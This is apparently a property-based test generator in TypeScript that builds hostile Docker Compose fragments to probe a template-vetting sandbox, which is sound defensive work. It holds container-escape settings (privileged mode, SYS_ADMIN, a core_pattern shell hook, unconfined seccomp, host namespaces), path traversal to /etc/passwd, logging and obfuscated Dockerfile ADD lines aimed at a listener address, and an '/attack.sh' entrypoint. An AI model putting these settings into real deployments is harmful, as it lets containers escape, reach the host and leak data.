import fc from 'fast-check';
import type { Targets } from './arena';

/** One hostile or harmless thing that a template may say, with what else it takes. */
export interface Atom {
  /** Compose key. */
  readonly key: string;
  /** Keys of the service that attacks. */
  readonly service?: Readonly<Record<string, unknown>>;
  /** Top-level keys; an empty declaration of what the service names is added where there is none. */
  readonly top?: Readonly<Record<string, unknown>>;
  /** A second service that attacks as well. */
  readonly second?: Readonly<Record<string, unknown>>;
  /** Links in the template's folder, by path: where they lead. */
  readonly links?: Readonly<Record<string, string>>;
}

/** How many paths, names, address ranges and addresses are made up for every key that takes one. */
const MADE_UP = 25;

/** Everything that the generator combines; the same for the same seed. */
export function atomsFor(targets: Targets, seed: number): Atom[] {
  const { canaryDir, victim, hostBridge, listenerPort } = targets;
  const sample = <T>(values: fc.Arbitrary<T>): T[] => [
    ...new Set(fc.sample(values, { numRuns: MADE_UP, seed })),
  ];
  const paths = [
    ...['./data', './data/x', './conf', '.', './', './store', '/app', '/app/data', '/etc/passwd'],
    ...[canaryDir, `${victim.dir}/bind`, '../victim/bind', '~/x', '/etc/localtime'],
    ...sample(pathsAround(targets)),
  ];
  const names = [
    ...[victim.container, 'victim', victim.network, victim.volume, `../${victim.project}`],
    `x/../../127.0.0.1:${listenerPort}/x`,
    ...sample(namesAround(targets)),
  ];
  const subnets = [
    ...['8.8.8.0/24', '169.254.169.0/24', '127.0.0.0/16', '0.0.0.0/0', '192.168.77.0/24'],
    ...sample(fc.tuple(fc.ipV4(), fc.integer({ min: 8, max: 31 })).map((p) => p.join('/'))),
  ];
  return [
    ...fixedAtoms(targets),
    ...paths.flatMap((path, index) => atomsOfPath(path, index)),
    ...names.flatMap((name) => atomsOfName(name, victim.project.replace(/victim$/, ''))),
    ...subnets.map((subnet) => networkAtom({ ipam: { config: [{ subnet }] } })),
    ...addresses(targets).flatMap((address) => atomsOfAddress(address)),
    ...['data', 'conf/l', 'x', 'store'].flatMap((path) =>
      [canaryDir, `${canaryDir}/secret`, '../victim', victim.dir, 'conf'].map((to) => ({
        key: 'volumes',
        service: { volumes: [`./${path}:/l${path.length}`] },
        links: { [path]: to },
      })),
    ),
    networkAtom({ driver_opts: { 'com.docker.network.bridge.name': hostBridge } }),
  ];
}

/** Paths that stay in the app's folder, leave it, or look as if they did the other. */
function pathsAround({ canaryDir, victim }: Targets): fc.Arbitrary<string> {
  const parts = ['.', '..', '', 'data', 'x', 'conf', 'store', 'victim', 'bind', '%2e%2e', 'a b'];
  const starts = ['./', '../', './data/', '/', `${canaryDir}/`, `${victim.dir}/`, '~/', '/app/'];
  return fc
    .tuple(
      fc.constantFrom(...starts),
      fc.array(fc.constantFrom(...parts), { minLength: 1, maxLength: 5 }),
    )
    .map(([start, inner]) => start + inner.join('/'));
}

/** Names of the victim's things, bare and dressed up, and names that are paths or addresses. */
function namesAround({ victim, listenerPort }: Targets): fc.Arbitrary<string> {
  const elsewhere = `127.0.0.1:${listenerPort}`;
  const bases = ['victim', victim.container, victim.network, victim.volume, 'a', 'b', elsewhere];
  return fc
    .tuple(
      fc.constantFrom('', '', '../', '../../', 'x/../../', '/', '%2e%2e%2f', ' ', 'container:'),
      fc.constantFrom(...bases),
      fc.constantFrom('', '', '/x', '/..', '?x=1', '#', ':ro', '-1', '_default', '_data'),
    )
    .map((parts) => parts.join(''));
}

function addresses({ listenerPort }: Targets): string[] {
  return ['127.0.0.1', '0.0.0.0', '[::1]', 'localhost', 'host.docker.internal'].map(
    (host) => `${host}:${listenerPort}`,
  );
}

function atomsOfPath(path: string, index: number): Atom[] {
  const target = `/p${index}`;
  return [
    { key: 'volumes', service: { volumes: [`${path}:${target}`] } },
    { key: 'volumes', service: { volumes: [`${path}:${target}:ro`] } },
    { key: 'volumes', second: { volumes: [`${path}:${target}`] } },
    {
      key: 'volumes',
      service: { volumes: [{ type: 'bind', source: path, target: `${target}l` }] },
    },
    {
      key: 'volumes',
      service: { volumes: [`v:${target}v`] },
      top: { volumes: { v: { driver_opts: { type: 'tmpfs', o: 'bind', device: path } } } },
    },
    { key: 'configs', service: { configs: ['c'] }, top: { configs: { c: { file: path } } } },
    { key: 'secrets', service: { secrets: ['s'] }, top: { secrets: { s: { file: path } } } },
    { key: 'env_file', service: { env_file: [{ path, required: false }] } },
    { key: 'label_file', service: { label_file: [path] } },
    { key: 'build', service: { build: { context: path } } },
    { key: 'extends', service: { extends: { file: path, service: 'victim' } } },
    { key: 'include', top: { include: [path] } },
    { key: 'devices', service: { devices: [`${path}:/dev/x`] } },
  ];
}

function atomsOfName(name: string, prefix: string): Atom[] {
  const optional = { depends_on: { [name]: { condition: 'service_started', required: false } } };
  const modes = [name, `service:${name}`, `container:${name}`];
  return [
    { key: 'depends_on', service: optional },
    { key: 'volumes_from', service: { ...optional, volumes_from: [name] } },
    { key: 'volumes_from', service: { volumes_from: [`container:${name}`] } },
    ...(['network_mode', 'pid', 'ipc'] as const).flatMap((key) =>
      modes.flatMap((mode) => [
        { key, service: { [key]: mode } },
        { key, service: { ...optional, [key]: mode } },
      ]),
    ),
    { key: 'links', service: { links: [`${name}:v`] } },
    { key: 'container_name', service: { container_name: name } },
    { key: 'hostname', service: { hostname: name } },
    // Any other name would be looked for in the registry of the world.
    ...(name.startsWith(prefix) ? [{ key: 'image', second: { image: name } }] : []),
    { key: 'networks', service: { networks: [name] }, top: { networks: { [name]: {} } } },
    { key: 'networks', service: { networks: { default: { aliases: [name] } } } },
    networkAtom({ name }),
    networkAtom({ name, external: true }),
    { key: 'volumes', service: { volumes: [`${name}:/n1`] }, top: { volumes: { [name]: {} } } },
    {
      key: 'volumes',
      service: { volumes: [{ type: 'volume', source: name, target: '/n2' }] },
      top: { volumes: { [name]: null } },
    },
    { key: 'volumes', service: { volumes: ['v:/n3'] }, top: { volumes: { v: { name } } } },
    {
      key: 'volumes',
      service: { volumes: ['v:/n4'] },
      top: { volumes: { v: { name, external: true } } },
    },
    { key: 'name', top: { name } },
    { key: 'extends', service: { extends: { service: name } } },
  ];
}

function atomsOfAddress(address: string): Atom[] {
  const host = address.replace(/:\d+$/, '');
  const logging = (driver: string, options: object): Atom => ({
    key: 'logging',
    service: { logging: { driver, options } },
  });
  return [
    logging('syslog', { 'syslog-address': `tcp://${address}` }),
    logging('gelf', { 'gelf-address': `tcp://${address}` }),
    logging('fluentd', { 'fluentd-address': address }),
    logging('splunk', { 'splunk-url': `http://${address}`, 'splunk-token': 'x' }),
    logging('json-file', { 'syslog-address': `tcp://${address}` }),
    { key: 'dns', service: { dns: [host] } },
    { key: 'extra_hosts', service: { extra_hosts: [`x:${host}`] } },
    { key: 'ports', service: { ports: [`${host}:9001:80`] } },
    { key: 'build', service: { build: `http://${address}/x.git` } },
    {
      key: 'build',
      service: {
        build: { context: '.', dockerfile_inline: `FROM scratch\nADD http://${address}/x /` },
      },
    },
    ...remoteAdditions(`http://${address}/x`).map((line) => ({
      key: 'build',
      service: { build: { context: '.', dockerfile_inline: `FROM scratch\n${line}` } },
    })),
    {
      key: 'volumes',
      service: { volumes: ['v:/a1'] },
      top: { volumes: { v: { driver_opts: { type: 'nfs', o: `addr=${host}`, device: ':/' } } } },
    },
    {
      key: 'networks',
      service: { networks: { n: { ipv4_address: host } } },
      top: { networks: { n: {} } },
    },
  ];
}

/** An address in a Dockerfile in the ways that the engine reads and a careless reader does not. */
function remoteAdditions(url: string): string[] {
  return [
    `ADD ["${url.replaceAll(':', '\\u003a')}", "/"]`,
    `ADD \\\n\n${url} /`,
    `# escape=\`\nAD\\\nD ${url} /`,
    `\u0085ADD ${url} /`,
  ];
}

function networkAtom(network: object): Atom {
  return { key: 'networks', service: { networks: ['n'] }, top: { networks: { n: network } } };
}

/** Values that need no name, path or address; together with the others every key that we carry out. */
function fixedAtoms({ canaryDir, victim }: Targets): Atom[] {
  const service: Readonly<Record<string, readonly unknown[]>> = {
    annotations: [{ 'io.kubernetes.cri': 'x' }],
    attach: [true],
    blkio_config: [{ weight: 100 }, { device_read_bps: [{ path: '/dev/sda', rate: '1m' }] }],
    build: [
      { context: '.', network: 'host' },
      { context: '.', privileged: true },
    ],
    cap_add: [['CHOWN'], ['SYS_ADMIN'], ['ALL'], ['NET_ADMIN'], ['cap_sys_ptrace']],
    cap_drop: [['ALL'], ['NET_RAW']],
    cgroup: ['host', 'private'],
    cgroup_parent: ['/', 'x'],
    cpu_period: [100000],
    cpu_quota: [50000],
    cpu_shares: [100],
    cpus: [1],
    cpuset: ['0'],
    deploy: [
      { replicas: 2 },
      { resources: { reservations: { devices: [{ driver: 'cdi', capabilities: ['x'] }] } } },
      { resources: { limits: { memory: '100m' } } },
    ],
    develop: [{ watch: [{ action: 'sync', path: canaryDir, target: '/w' }] }],
    device_cgroup_rules: [['a *:* rwm']],
    devices: [['/dev/null:/dev/x'], ['/dev/mem']],
    dns: [['127.0.0.1'], ['$(x)']],
    dns_opt: [['ndots:1']],
    dns_search: [['x']],
    domainname: ['d', '../d'],
    entrypoint: [['/bin/sh', '/attack.sh']],
    environment: [{ TOKEN: null, HOME: '/root' }, ['PATH', 'DATABASE_URL', 'JWT_SECRET']],
    expose: [['80']],
    extra_hosts: [['x:host-gateway']],
    gpus: ['all', [{ driver: 'cdi', count: 1 }]],
    group_add: [['0'], ['docker']],
    healthcheck: [{ test: ['CMD', '/bin/true'], interval: '1s' }, { disable: true }],
    init: [true],
    ipc: ['host', 'private', 'shareable'],
    labels: [
      { 'com.docker.compose.project': victim.project },
      { 'io.stackscape.app': 'victim', 'io.stackscape.trusted': 'true' },
      { 'com.docker.compose.project.working_dir': '/' },
      ['io.stackscape.installation=1'],
    ],
    logging: [
      { driver: 'json-file', options: { 'max-size': '1m' } },
      { driver: 'local' },
      { driver: 'none' },
      { driver: 'journald' },
      { driver: 'json-file', options: { path: `${canaryDir}/log` } },
    ],
    mac_address: ['02:42:00:00:00:01', 'ff:ff:ff:ff:ff:ff'],
    mem_limit: ['100m'],
    mem_reservation: ['50m'],
    mem_swappiness: [10],
    memswap_limit: ['200m'],
    network_mode: ['host', 'none', 'bridge', 'default'],
    networks: [
      { default: { link_local_ips: ['169.254.169.254'] } },
      { default: { driver_opts: { 'com.docker.network.endpoint.sysctls': 'x' } } },
      { default: { mac_address: '02:42:00:00:00:02' } },
    ],
    oom_kill_disable: [true, false],
    oom_score_adj: [0, -1000],
    pid: ['host'],
    pids_limit: [100, -1],
    platform: ['linux/amd64', '../x'],
    ports: [['80'], ['22:22'], [{ target: 80, published: '80', mode: 'host' }]],
    privileged: [true, false],
    profiles: [['never']],
    pull_policy: ['never', 'missing'],
    read_only: [true],
    restart: ['always', 'on-failure:3', 'no'],
    runtime: ['runc', 'other'],
    scale: [2],
    security_opt: [
      ...['no-new-privileges:true', 'no-new-privileges:false', 'label:disable', 'label:type:spc_t'],
      ...['label:level:s0:c1,c2', 'seccomp:unconfined', 'apparmor:unconfined', 'seccomp=x.json'],
      ...['systempaths=unconfined', 'apparmor=docker-default', 'credentialspec=file://x'],
    ].map((option) => [option]),
    shm_size: ['1m'],
    stdin_open: [true],
    stop_grace_period: ['1s', '99999h'],
    stop_signal: ['SIGTERM', 'SIGKILL'],
    storage_opt: [{ 'dm.basesize': '1g' }],
    sysctls: [{ 'net.ipv4.ip_forward': '1' }, { 'kernel.core_pattern': '|/bin/sh' }],
    tmpfs: [
      ['/t2:size=1m'],
      [`/t3:bind,device=${canaryDir}`],
      ['/t4:exec,suid,dev'],
      ['/t5:size=1m,mpol=default'],
    ],
    tty: [true],
    ulimits: [{ nofile: 1024 }, { rtprio: 99 }, { memlock: -1 }],
    user: ['0', '0:0', '1000'],
    userns_mode: ['host', ''],
    uts: ['host'],
    volumes: [
      ['/anonymous'],
      [{ type: 'tmpfs', target: '/t1', tmpfs: { size: '1m' } }],
      [{ type: 'image', source: 'x', target: '/i' }],
      [{ type: 'npipe', source: '\\\\.\\pipe\\docker_engine', target: '/i' }],
      ['./data:/m1:rshared'],
      ['./data:/m2:shared,rw'],
      [{ type: 'bind', source: './data', target: '/m3', bind: { propagation: 'rshared' } }],
      ['v:/v1'],
      ['v:/v2/../../v2'],
    ],
    working_dir: ['/', '../..'],
  };
  const driver = (options: object): Atom => ({
    key: 'volumes',
    service: { volumes: ['v:/d1'] },
    top: { volumes: { v: options } },
  });
  return [
    ...Object.entries(service).flatMap(([key, values]) =>
      values.map((value) => ({ key, service: { [key]: value } })),
    ),
    driver({ driver_opts: { type: 'none', o: 'bind', device: canaryDir } }),
    driver({ driver_opts: { type: 'tmpfs', device: 'tmpfs', o: 'size=1m' } }),
    driver({ driver_opts: { type: 'tmpfs', device: 'tmpfs', o: 'bind,size=1m' } }),
    driver({ driver_opts: { type: 'overlay', device: 'overlay', o: `lowerdir=${canaryDir}` } }),
    driver({ driver: 'other' }),
    driver({ labels: { 'io.stackscape.app': 'victim' } }),
    networkAtom({ driver: 'macvlan', driver_opts: { parent: 'lo' } }),
    networkAtom({ driver: 'host' }),
    networkAtom({ driver_opts: { 'com.docker.network.driver.mtu': '1400' } }),
    networkAtom({ driver_opts: { 'com.docker.network.bridge.host_binding_ipv4': '127.0.0.1' } }),
    networkAtom({ driver_opts: { 'com.docker.network.container_iface_prefix': 'lo' } }),
    networkAtom({ internal: true }),
    networkAtom({ attachable: true, labels: { 'io.stackscape.app': 'victim' } }),
    networkAtom({ ipam: { driver: 'other' } }),
    { key: 'configs', service: { configs: ['c'] }, top: { configs: { c: { content: 'x' } } } },
    {
      key: 'configs',
      service: { configs: [{ source: 'c', target: '/../../etc/x', mode: 0o777 }] },
      top: { configs: { c: { environment: 'PATH' } } },
    },
    { key: 'secrets', service: { secrets: ['s'] }, top: { secrets: { s: { content: 'x' } } } },
    { key: 'second', second: { privileged: true } },
    { key: 'second', second: { network_mode: 'service:a' } },
    { key: 'second', second: { volumes_from: ['a'], pid: 'service:a', ipc: 'shareable' } },
  ];
}
